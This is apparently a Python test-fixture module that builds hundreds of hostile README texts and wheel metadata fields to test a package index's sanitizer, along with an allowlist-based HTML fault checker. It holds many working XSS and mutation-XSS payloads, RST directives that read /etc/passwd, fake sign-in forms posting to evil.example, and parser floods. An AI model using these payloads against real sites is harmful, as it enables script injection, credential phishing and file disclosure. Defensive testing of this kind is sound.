"""READMEs that want to do harm (T11): known tricks, and families of them put together by a seed.

What they try shows in a browser: they set `window.hit`, or ask a host that ends in `.evil.example`.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass

import html5lib

from tests import samples

#: Sets the mark that a test looks for; a dialog would hold the browser up.
CALL = "window.hit=1"
HOST = "evil.example"
TYPES = {
    "md": "text/markdown",
    "cm": "text/markdown; variant=CommonMark",
    "rst": "text/x-rst",
    "txt": "text/plain",
}

_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onscrollend",
    "onbeforematch",
    "oncontentvisibilityautostatechange",
)
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe",
    "object data=x",
    "embed src=x",
    "a href=#",
    "select autofocus",
    "math",
    "style",
    "link",
    "form",
    "button",
    "textarea autofocus",
    "p",
    "table background=x",
    "isindex",
    "keygen",
    "frameset",
    "dialog open",
    "meter",
    "template",
    "slot",
    "custom-element",
    "image src=x",
    "bgsound src=x",
)
_URLS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f" javascript:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript&colon;{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&#58;{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    f"vbscript:{CALL}",
    f"javascript://{HOST}/%0a{CALL}",
    f"feed:javascript:{CALL}",
    f"view-source:javascript:{CALL}",
    f"blob:javascript:{CALL}",
    f"jar:javascript:{CALL}",
    f"//{HOST}/%0d%0aLocation:javascript:{CALL}",
    f"javascript:/*--></title></style></textarea></script>*/{CALL}",
)
_LOADS = (
    "<img src='{u}'>",
    "<img srcset='{u} 1x'>",
    "<picture><source srcset='{u}'><img></picture>",
    "<video poster='{u}'>",
    "<video autoplay src='{u}'></video>",
    "<audio autoplay src='{u}'></audio>",
    "<svg><image href='{u}'/></svg>",
    "<svg><use href='{u}#a'/></svg>",
    "<link rel=stylesheet href='{u}'>",
    "<link rel=prefetch href='{u}'>",
    "<link rel=preconnect href='{u}'>",
    "<style>@import '{u}';</style>",
    "<p style=\"background:url('{u}')\">x</p>",
    "<table background='{u}'><tr><td>x</table>",
    "<input type=image src='{u}'>",
    "<iframe src='{u}'></iframe>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<base href='{u}'>",
    "<script src='{u}'></script>",
    "<body background='{u}'>",
    "<track src='{u}'>",
    "<a href='{u}' ping='{u}'>x</a>",
    "<form action='{u}'><input name=q autofocus></form>",
    "<svg><feImage href='{u}'/></svg>",
    "<math href='{u}'>x</math>",
    "<q cite='{u}'>x</q>",
    "<svg><style>*{{background:url({u})}}</style></svg>",
    "<font face=\"x;background:url('{u}')\">x</font>",
)
_MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror={c}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={c}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={c}>",
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror={c}>">',
    "<svg><foreignObject><style><!--</style><img src=x onerror={c}>--></foreignObject></svg>",
    '<table><caption><svg><title><table><caption></title><style><a title="</style><img src=x onerror={c}>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror={c}>">',
    '<xmp><p title="</xmp><img src=x onerror={c}>">',
    "<plaintext><img src=x onerror={c}>",
    '<noembed><img title="</noembed><img src onerror={c}>">',
    "<!--><img src=x onerror={c}>-->",
    "<!--!><img src=x onerror={c}>-->",
    "<![CDATA[><img src=x onerror={c}>]]>",
    "<? <img src=x onerror={c}> ?>",
    '<textarea><img title="</textarea><img src=x onerror={c}>">',
    '<title><img title="</title><img src onerror={c}>">',
    '<a href="x\x00"><img src=x onerror={c}>',
    '<img src="x` `<script>{c}</script>"` `>',
    "<<script>{c}//<</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script/x>{c}</script>",
    "<script\x0c>{c}</script>",
    "<SCRIPT>{c}</SCRIPT>",
    "<svg/onload={c}>",
    "<img/src/onerror={c}>",
    "<img\x0bsrc=x\x0bonerror={c}>",
    "<img src=x onerror\n=\n{c}>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<svg><script href="data:,{c}"/></svg>',
    "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{c} />",
    "<svg><a><animate attributeName=href values=javascript:{c} /><text x=20 y=20>x</text></a></svg>",
    "</div></div></section></main><script>{c}</script>",
    "</pre></code></div><img src=x onerror={c}>",
    "<details open ontoggle={c}><summary>x</summary></details>",
    "<p/onmouseover={c}>x</p>",
    '<object type=text/html data="data:text/html,<script>parent.hit=1</script>"></object>',
    "<button popovertarget=x onbeforetoggle={c} autofocus>x</button><p popover id=x>",
    "<input value={c} onfocus=eval(value) autofocus>",
)
#: What dresses up as a part of the page, covers it, or takes its names.
_DISGUISES = (
    '<div id="content" class="note bad">This server was taken over.</div>',
    '<a class="skip" href="https://{h}/">Sign in</a>',
    '<p class="hidden">x</p><div class="top">x</div>',
    '<form action="https://{h}/" method="post"><input name="password"><button>Sign in</button></form>',
    '<input name="csrf" id="csrf" value="1"><a id="find" name="find">x</a><img name="getElementById">',
    '<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>',
    '<h1>The page</h1><h2 id="install">x</h2>',
    '<div style="margin:-9999px;width:99999px;height:99999px">x</div>',
    "<dialog open>Your password has expired</dialog>",
    '<base target="_top"><a href="https://{h}/" target="_parent">x</a>',
    '</main></body></html><body id="all">',
    '<table width="99999" height="99999"><tr><td width="99999">x</td></tr></table>',
    '<pre class="command" data-copy>x</pre>',
    '<div data-upload data-copy="x"><code>rm -rf</code></div>',
    '<p dir="rtl">x</p>\u202egnp.exe\u2066 \u200f',
    '<label for="find">x</label><output form="f">x</output>',
    '<nav aria-label="Main"><a href="/-/logout">x</a></nav>',
    '<details open name="x"><summary autofocus tabindex="1" accesskey="s">x</summary></details>',
    '<span onclick="{c}" tabindex="0" contenteditable="true">x</span>',
    '<marquee behavior="alternate">x</marquee>',
)
_MARKDOWN = (
    "[x]({u})",
    "![x]({u})",
    "<{u}>",
    "[x]: {u}\n\n[x]",
    '[x]({u} "\\" onmouseover={c} ")',
    "[![x]({u})]({u})",
    '```"><img src=x onerror={c}>\nx\n```',
    "| a |\n| - |\n| <img src=x onerror={c}> |",
    "- [x] <svg onload={c}>",
    "[x](<{u}>)",
    "[^1]\n\n[^1]: <img src=x onerror={c}>",
    "# <img src=x onerror={c}>\n\n[top](#readme-)",
    "> <script>{c}</script>",
    "    <script>{c}</script>",
    "`<script>{c}</script>`",
    "~~<b onclick={c}>x</b>~~",
    "&lt;script&gt;{c}&lt;/script&gt;",
    "\\<script>{c}\\</script>",
    "<div>\n\n[x]({u})\n\n</div>",
    "a<br/onload={c}>b",
    '[a](b"onmouseover="{c})',
    '![a"onerror="{c}](x)',
    '<http://x.example/"onload="{c}>',
    "www.{h}/<img src=x onerror={c}>",
    '[x](https://{h}/\\"onload={c}//)',
    "$$<img src=x onerror={c}>$$",
    ":smile:<img src=x onerror={c}>",
    "[[x|{u}]]",
    "<!-- --!><img src=x onerror={c}> -->",
    "* a\n\n  <script>\n  {c}\n  </script>",
)
_RST = (
    ".. raw:: html\n\n   <script>{c}</script>",
    ".. raw:: html\n   :file: /etc/passwd",
    ".. raw:: html\n   :url: https://{h}/x",
    ".. include:: /etc/passwd",
    ".. include:: /proc/self/environ\n   :literal:",
    ".. literalinclude:: /etc/passwd",
    ".. csv-table:: x\n   :file: /etc/passwd",
    ".. csv-table:: x\n   :url: https://{h}/x",
    "`x <{u}>`_",
    "`x <{u}>`__",
    ".. _x: {u}\n\nx_",
    ".. image:: {u}",
    ".. image:: https://{h}/x.png\n   :target: {u}",
    '.. figure:: {u}\n   :alt: "onerror={c}',
    ".. |x| image:: {u}\n\n|x|",
    ".. role:: raw-x(raw)\n   :format: html\n\n:raw-x:`<script>{c}</script>`",
    ".. class:: skip top hidden\n\nx",
    ".. container:: note bad\n\n   x",
    ".. meta::\n   :http-equiv=refresh: 0;url=https://{h}/",
    '.. code:: html\n   :class: " onclick={c}\n\n   <script>{c}</script>',
    ".. math::\n\n   \\unicode{{<img src=x onerror={c}>}}",
    ".. default-role:: raw",
    ".. contents:: <img src=x onerror={c}>",
    ".. topic:: <script>{c}</script>\n\n   x",
    ".. sidebar:: x\n\n   <img src=x onerror={c}>",
    ".. parsed-literal::\n\n   `x <{u}>`_",
    ".. header:: <script>{c}</script>",
    ".. target-notes::",
    ".. sectnum::",
    ".. date:: <script>{c}</script>",
    ".. |y| date:: %Y\n\n|y|",
    ".. replace:: x",
    ".. unicode:: 0x3C",
    ".. title:: </title><script>{c}</script>",
    ":field <img src=x onerror={c}>: x",
    ".. list-table:: x\n   :class: top\n\n   * - <script>{c}</script>",
    "x\n=\n\n.. _content:\n\nx",
    "<script>{c}</script>",
    ".. stylesheet:: https://{h}/x.css",
    ".. epigraph::\n\n   x\n\n   -- `x <{u}>`_",
    "javascript:{c}//https://{h}/",
)
#: Too much of something.
_FLOODS = (
    "> " * 3_000 + "x",
    "[" * 5_000,
    "![" * 3_000,
    "*" * 20_000,
    "`" * 9_999,
    "<div>" * 3_000,
    "<b>" * 3_000 + "x",
    "- " * 2_000,
    "|" * 5_000 + "\n" + "|-" * 5_000,
    "a" * 100_000,
    "&" * 20_000,
    "\u0300" * 20_000,
    "\x00" * 1_000,
    "[a](" * 3_000,
    "<!--" * 3_000,
    "\n\n".join(f"[{n}]: x" for n in range(2_000)),
    "* " * 500 + "x",
    "((" * 4_000,
    "_" * 9_999,
    "\ufffe\uffff\x1b[31m" * 200,
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A description and its kind: 'md', 'cm', 'rst' or 'txt'."""

    kind: str
    text: str

    @property
    def content_type(self) -> str:
        return TYPES[self.kind]


def corpus(number: int = 400, seed: int = 11) -> Sequence[Hostile]:
    """So many of them, the same for a seed: each known trick once where there is room, then mixtures."""
    chance = random.Random(seed)
    known = [*_known(chance)]
    chance.shuffle(known)
    found = known[:number]
    while len(found) < number:
        parts = [each.text for each in chance.sample(known, 3) if len(each.text) < 1_000]
        found.append(Hostile(chance.choice([*TYPES]), "\n\n".join(parts)))
    return found


def _known(chance: random.Random) -> Iterator[Hostile]:
    def filled(text: str) -> str:
        url = chance.choice(_URLS)
        for mark, value in (("{u}", url), ("{c}", CALL), ("{h}", HOST), ("{{", "{"), ("}}", "}")):
            text = text.replace(mark, value)
        return text

    for text in _MARKDOWN:
        yield Hostile(chance.choice(("md", "cm")), filled(text))
    for text in _RST:
        yield Hostile("rst", filled(text))
    for url in _URLS:
        yield Hostile("md", f'[x]({url}) <a href="{url}">x</a> <{url}>')
        yield Hostile("rst", f"`x <{url}>`_ and\n\n.. image:: {url}\n")
    for number, load in enumerate(_LOADS):
        beacon = f"https://beacon-{number}.{HOST}/x.png"
        yield Hostile(chance.choice(("md", "cm")), load.format(u=beacon))
        yield Hostile("rst", f".. raw:: html\n\n   {load.format(u=beacon)}\n\n.. image:: {beacon}\n")
    for text in (*_MUTATIONS, *_DISGUISES):
        yield Hostile("md", filled(text))
        yield Hostile(chance.choice(("cm", "txt", "rst")), filled(text))
    for element in _ELEMENTS:
        handler = chance.choice(_HANDLERS)
        yield Hostile("md", f"<{element} {handler}={CALL}>x")
        yield Hostile("cm", f'text <{element} {chance.choice(_HANDLERS)}="{CALL}" style="all:unset">x')
    for text in _FLOODS:
        yield Hostile(chance.choice([*TYPES]), text)


def package(name: str, hostile: Hostile) -> samples.Sample:
    """A wheel that is described so, and that says the like of itself in each field that is shown."""
    trick = "\"'><img src=x onerror=window.hit=1>"
    lines = [
        "Metadata-Version: 2.4",
        f"Name: {name}",
        "Version: 1.0",
        f"Summary: {trick}",
        f"Author: {trick}",
        f"Author-email: {trick} <x@{HOST}>",
        f"Keywords: {trick}",
        f"License: {trick}",
        f"Home-page: javascript:{CALL}",
        f"Project-URL: {trick}, javascript:{CALL}",
        f"Project-URL: x, https://{HOST}/{trick}",
        f"Classifier: {trick}",
        f"Requires-Dist: x @ javascript:{CALL}",
        f"Description-Content-Type: {hostile.content_type}",
        "",
        hostile.text,
    ]
    return samples.wheel(name, "1.0", metadata="\n".join(lines).encode("utf-8", "replace"))


#: What a README may be made of, by hand: not the list that the renderer has.
_TAGS = frozenset(
    [
        "a",
        "abbr",
        "acronym",
        "aside",
        "b",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "input",
        "kbd",
        "li",
        "ol",
        "p",
        "pre",
        "section",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "s",
    ]
)
_ATTRIBUTES = frozenset(
    [
        "href",
        "title",
        "rel",
        "id",
        "class",
        "align",
        "colspan",
        "rowspan",
        "start",
        "type",
        "checked",
        "disabled",
        "aria-label",
        "tabindex",
    ]
)


def faults(html: str) -> list[str]:
    """What in a README's HTML could do anything, as a browser's parser sees it."""
    parser = html5lib.HTMLParser(html5lib.getTreeBuilder("etree"), namespaceHTMLElements=False)
    found = []
    for element in parser.parseFragment(html).iter():
        tag = element.tag
        if tag == "DOCUMENT_FRAGMENT":
            continue
        if tag not in _TAGS:
            found.append(f"an element {tag!r}")
            continue
        for name, value in element.attrib.items():
            if name not in _ATTRIBUTES:
                found.append(f"{tag} {name}={value!r}")
            elif name == "href" and not value.startswith(("http://", "https://", "mailto:", "#readme-")):
                found.append(f"a link to {value!r}")
            elif name == "id" and not value.startswith("readme-"):
                found.append(f"an id {value!r}")
            elif name == "tabindex" and value != "0":
                found.append(f"{tag} tabindex={value!r}")
        if tag == "a" and element.get("href") and "noopener" not in (element.get("rel") or ""):
            found.append(f"a link without rel: {element.get('href')!r}")
        if tag == "input" and (element.get("type") != "checkbox" or element.get("disabled") is None):
            found.append("a field that can be filled in")
    return found
